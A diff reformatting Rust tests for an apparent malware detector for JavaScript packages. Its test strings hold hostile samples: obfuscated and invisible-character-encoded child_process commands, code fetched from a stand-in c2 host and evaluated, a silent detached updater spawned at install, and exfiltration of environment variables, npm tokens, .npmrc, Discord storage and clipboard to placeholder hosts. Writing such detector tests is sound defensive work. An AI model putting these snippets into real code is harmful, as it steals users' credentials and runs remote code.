@@ -104,7 +104,9 @@ fn every_way_of_hiding_a_command_is_undone() {
         "const t = (s, v) => s[0] + v; require('child_process').exec(t`who${'ami'}`)",
         "require('child_process').exec(String.raw`whoami`)",
         "require('child_process').exec((1234).toString(36) && 'whoami')",
-        "require('child_process').exec([..'imaohw'].reverse().join(''))".replace("..'", "...'").as_str(),
+        "require('child_process').exec([..'imaohw'].reverse().join(''))"
+            .replace("..'", "...'")
+            .as_str(),
         "require('child_process').exec(new TextDecoder().decode(new Uint8Array([119,104,111,97,109,105])))",
         "var m = new Map([['a', 'whoami']]); require('child_process').exec(m.get('a'))",
         "Object.defineProperty(exports, 'q', { get: () => 'whoami' }); require('child_process').exec(exports.q)",
@@ -113,7 +115,11 @@ fn every_way_of_hiding_a_command_is_undone() {
         "(0, require('child_process').exec)('whoami')",
         "[1].forEach(() => require('child_process').exec('whoami'))",
     ] {
-        assert!(commands(text).iter().any(|c| c == "whoami"), "{text}: {:?}", commands(text));
+        assert!(
+            commands(text).iter().any(|c| c == "whoami"),
+            "{text}: {:?}",
+            commands(text)
+        );
     }
 }
 
@@ -121,7 +127,13 @@ fn every_way_of_hiding_a_command_is_undone() {
 fn expressions_of_six_characters_fold() {
     // "fill", "constructor" and a call of what they make, as JSFuck writes it.
     let letter = |word: &str, at: &str| format!("({word}+[])[{at}]");
-    let n = |n: usize| if n == 0 { "+[]".to_owned() } else { vec!["!![]"; n].join("+").replacen("!![]", "+!![]", 1) };
+    let n = |n: usize| {
+        if n == 0 {
+            "+[]".to_owned()
+        } else {
+            vec!["!![]"; n].join("+").replacen("!![]", "+!![]", 1)
+        }
+    };
     let fals = "![]";
     let f = letter(fals, &n(0));
     let l = letter(fals, &n(2));
@@ -150,9 +162,21 @@ req.write(data); req.end();
 dns.lookup(os.hostname() + ".probe.example.com", () => {});
 "#;
     let connects = found(text, Action::Connect, ObjectKind::Network);
-    assert!(connects.iter().any(|b| b.target.contains("beacon.example.com") && b.flows.contains(&Flow::Host)), "{}", told(text));
+    assert!(
+        connects
+            .iter()
+            .any(|b| b.target.contains("beacon.example.com") && b.flows.contains(&Flow::Host)),
+        "{}",
+        told(text)
+    );
     let resolves = found(text, Action::Resolve, ObjectKind::Dns);
-    assert!(resolves.iter().any(|b| b.target.ends_with(".probe.example.com") && b.flows.contains(&Flow::Host)), "{}", told(text));
+    assert!(
+        resolves
+            .iter()
+            .any(|b| b.target.ends_with(".probe.example.com") && b.flows.contains(&Flow::Host)),
+        "{}",
+        told(text)
+    );
 }
 
 #[test]
@@ -167,7 +191,11 @@ fn answers_that_are_run_are_from_the_network() {
         "const vm = require('vm'); require('request')('https://c2.example.com', (e, r, body) => vm.runInThisContext(body))",
     ] {
         let run = found(text, Action::Evaluate, ObjectKind::Code);
-        assert!(run.iter().any(|b| b.flows.contains(&Flow::Network)), "{text}\n{}", told(text));
+        assert!(
+            run.iter().any(|b| b.flows.contains(&Flow::Network)),
+            "{text}\n{}",
+            told(text)
+        );
     }
 }
 
@@ -183,24 +211,60 @@ https.get('https://cdn.example.com/updater', (res) => {
 });
 "#;
     let spawned = found(text, Action::Spawn, ObjectKind::Process);
-    let b = spawned.iter().find(|b| b.target == "/tmp/updater --quiet").unwrap_or_else(|| panic!("{}", told(text)));
+    let b = spawned
+        .iter()
+        .find(|b| b.target == "/tmp/updater --quiet")
+        .unwrap_or_else(|| panic!("{}", told(text)));
     assert!(b.flows.contains(&Flow::Network), "{}", told(text));
-    assert!(b.tags.contains("detached") && b.tags.contains("silent"), "{:?}", b.tags);
+    assert!(
+        b.tags.contains("detached") && b.tags.contains("silent"),
+        "{:?}",
+        b.tags
+    );
     assert_eq!(b.phase, Phase::Install);
 }
 
 #[test]
 fn secrets_are_followed_to_where_they_go() {
     for (text, target, flow) in [
-        ("const e = process.env; require('axios').post('https://x.example.com/c', { env: JSON.stringify(e) })", "https://x.example.com/c", Flow::EnvironmentAll),
-        ("fetch('https://x.example.com/?t=' + process.env.NPM_TOKEN)", "https://x.example.com/?t={env:NPM_TOKEN}", Flow::Credential),
-        ("const fs = require('fs'), os = require('os'); const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); fetch('https://x.example.com', { method: 'POST', body: t })", "https://x.example.com", Flow::Credential),
-        ("const {Webhook} = require('discord-webhook-node'); const p = require('path'); const f = require('fs').readFileSync(p.join(process.env.APPDATA, 'discord/Local Storage/leveldb', 'x.ldb')).toString(); require('node-fetch')('https://discord.com/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content: f }) })", "https://discord.com/api/webhooks/1/x", Flow::Chat),
-        ("require('clipboardy').read().then(c => fetch('https://x.example.com/' + c))", "https://x.example.com/{clipboard}", Flow::Clipboard),
-        ("const {exec} = require('child_process'); exec('cat x', (e, out) => require('http').get('http://x.example.com/?' + out))", "http://x.example.com/?{output}", Flow::Process),
+        (
+            "const e = process.env; require('axios').post('https://x.example.com/c', { env: JSON.stringify(e) })",
+            "https://x.example.com/c",
+            Flow::EnvironmentAll,
+        ),
+        (
+            "fetch('https://x.example.com/?t=' + process.env.NPM_TOKEN)",
+            "https://x.example.com/?t={env:NPM_TOKEN}",
+            Flow::Credential,
+        ),
+        (
+            "const fs = require('fs'), os = require('os'); const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); fetch('https://x.example.com', { method: 'POST', body: t })",
+            "https://x.example.com",
+            Flow::Credential,
+        ),
+        (
+            "const {Webhook} = require('discord-webhook-node'); const p = require('path'); const f = require('fs').readFileSync(p.join(process.env.APPDATA, 'discord/Local Storage/leveldb', 'x.ldb')).toString(); require('node-fetch')('https://discord.com/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content: f }) })",
+            "https://discord.com/api/webhooks/1/x",
+            Flow::Chat,
+        ),
+        (
+            "require('clipboardy').read().then(c => fetch('https://x.example.com/' + c))",
+            "https://x.example.com/{clipboard}",
+            Flow::Clipboard,
+        ),
+        (
+            "const {exec} = require('child_process'); exec('cat x', (e, out) => require('http').get('http://x.example.com/?' + out))",
+            "http://x.example.com/?{output}",
+            Flow::Process,
+        ),
     ] {
         let sent = found(text, Action::Connect, ObjectKind::Network);
-        assert!(sent.iter().any(|b| b.target == target && b.flows.contains(&flow)), "{text}\n{}", told(text));
+        assert!(
+            sent.iter()
+                .any(|b| b.target == target && b.flows.contains(&flow)),
+            "{text}\n{}",
+            told(text)
+        );
     }
 }
 
@@ -222,7 +286,14 @@ fn invisible_characters_are_decoded() {
     let code = "require('child_process').exec('whoami')";
     let hidden: String = code
         .bytes()
-        .map(|b| char::from_u32(if b < 16 { 0xfe00 + u32::from(b) } else { 0xe0100 + u32::from(b) - 16 }).unwrap())
+        .map(|b| {
+            char::from_u32(if b < 16 {
+                0xfe00 + u32::from(b)
+            } else {
+                0xe0100 + u32::from(b) - 16
+            })
+            .unwrap()
+        })
         .collect();
     let text = format!(
         "const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);
@@ -236,7 +307,11 @@ fn functions_that_nobody_calls_run_later() {
     let text = "module.exports = function (cmd) { require('child_process').exec('git ' + cmd) }; module.exports.other = () => fetch('https://example.com')";
     let all = behaviours_in(Phase::Import, text);
     assert!(all.iter().all(|b| b.phase == Phase::Run), "{all:?}");
-    assert!(all.iter().any(|b| b.target == "git {arg:cmd}" && b.flows.contains(&Flow::Argument)), "{all:?}");
+    assert!(
+        all.iter()
+            .any(|b| b.target == "git {arg:cmd}" && b.flows.contains(&Flow::Argument)),
+        "{all:?}"
+    );
 }
 
 /// Output of `javascript-obfuscator` on `plain.js`, at several
@@ -244,7 +319,10 @@ fn functions_that_nobody_calls_run_later() {
 #[test]
 fn obfuscated_code_does_what_the_plain_code_does() {
     let acts = |name: &str| -> Vec<(Action, ObjectKind, String)> {
-        let path = format!("{}/tests/data/obfuscated/{name}.js", env!("CARGO_MANIFEST_DIR"));
+        let path = format!(
+            "{}/tests/data/obfuscated/{name}.js",
+            env!("CARGO_MANIFEST_DIR")
+        );
         behaviours_in(Phase::Import, &std::fs::read_to_string(path).unwrap())
             .into_iter()
             .map(|b| (b.action, b.object, b.target))
@@ -252,7 +330,9 @@ fn obfuscated_code_does_what_the_plain_code_does() {
     };
     let plain = acts("plain");
     assert!(plain.len() >= 8, "{plain:?}");
-    for name in ["default", "low", "medium", "base64", "rc4", "flat", "selfdef", "numbers", "high"] {
+    for name in [
+        "default", "low", "medium", "base64", "rc4", "flat", "selfdef", "numbers", "high",
+    ] {
         let seen = acts(name);
         for act in &plain {
             assert!(seen.contains(act), "{name} lacks {act:?}: {seen:?}");
@@ -263,6 +343,12 @@ fn obfuscated_code_does_what_the_plain_code_does() {
 /// Output of `jsfuck` on the code of the test before last.
 #[test]
 fn six_characters_are_read() {
-    let path = format!("{}/tests/data/obfuscated/jsfuck.js", env!("CARGO_MANIFEST_DIR"));
-    assert_eq!(commands(&std::fs::read_to_string(path).unwrap()), ["whoami"]);
+    let path = format!(
+        "{}/tests/data/obfuscated/jsfuck.js",
+        env!("CARGO_MANIFEST_DIR")
+    );
+    assert_eq!(
+        commands(&std::fs::read_to_string(path).unwrap()),
+        ["whoami"]
+    );
 }
